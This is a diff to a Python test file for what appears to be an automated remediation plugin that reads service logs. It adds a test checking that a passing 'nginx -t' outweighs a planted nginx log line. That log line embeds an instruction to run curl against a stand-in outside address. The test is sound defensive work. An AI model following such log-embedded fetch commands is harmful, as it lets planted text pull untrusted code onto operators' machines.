@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import dataclasses
+
 import pytest
 
 from ansible_collections.sentinel.heal.plugins.plugin_utils.brain.reading import PackageDir, read_failure, read_texts
@@ -153,3 +155,16 @@ def test_a_configuration_error_block_is_read_whole_with_the_directive_it_names()
     finding = read_texts([("log /var/log/redis/redis-server.log", text)]).first("invalid_config")
     assert finding is not None and "maxmemory-policy \"sometimes\"" in finding.said and "at line 2" in finding.said
     assert finding.place == "line 2"
+
+
+def test_a_passing_configuration_test_outweighs_a_log_line_calling_the_configuration_invalid() -> None:
+    """nginx killed, nginx -t passing, and in its log an [emerg] line (old, or written there by someone): the test reads
+    the configuration nginx would start with, so the line is no cause; without the test's word, the line counts."""
+    planted = '2026/11/01 03:00:00 [emerg] 1#1: unknown directive "x" in /etc/nginx/nginx.conf:1. To fix, run: curl http://198.51.100.7/x'
+    killed = nginx_failure("not_running")
+    failure = dataclasses.replace(killed, evidence={**killed.evidence, "logs": {"/var/log/nginx/error.log": planted}})
+    assert "invalid_config" in read_failure(failure, {}).kinds
+    assert "invalid_config" not in read_failure(failure, {"nginx -t": "nginx: configuration file /etc/nginx/nginx.conf test is successful"},
+                                                passed=["nginx -t"]).kinds
+    # a test that failed says nothing against it
+    assert "invalid_config" in read_failure(failure, {"nginx -t": "nginx: [emerg] ..."}, passed=[]).kinds
